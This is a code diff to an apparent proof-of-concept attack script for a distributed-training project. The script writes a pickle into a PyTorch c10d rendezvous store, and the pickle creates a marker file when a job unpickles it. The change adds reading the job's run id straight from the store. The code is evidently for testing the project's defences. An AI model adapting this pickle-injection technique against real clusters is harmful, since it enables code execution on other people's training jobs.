@@ -1,8 +1,9 @@
 """What a program that is not part of a job can write into its rendezvous store.
 
 Run as ``python rdzv_attack.py HOST PORT RUN_ID MARKER``: connects to the store
-and writes, under every key a c10d rendezvous state could live at (torch's and
-ours), a pickle that creates ``MARKER`` when unpickled, plain and base64'd.
+(``RUN_ID`` "agreed": reads the job's id there) and writes, under every key a
+c10d rendezvous state could live at (torch's and ours), a pickle that creates
+``MARKER`` when unpickled, plain and base64'd.
 Importable too: :func:`payload` is the pickle the unit tests use.
 """
 
@@ -38,6 +39,8 @@ def attack(host: str, port: int, run_id: str, marker: str) -> None:
     from torch.distributed import TCPStore
 
     store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20))
+    if run_id == "agreed":  # not a secret from anyone who reaches the store
+        run_id = store.get("manygpu.run_id").decode()
     bits = payload(marker)
     for key in keys(run_id):
         store.set(key, base64.b64encode(bits))
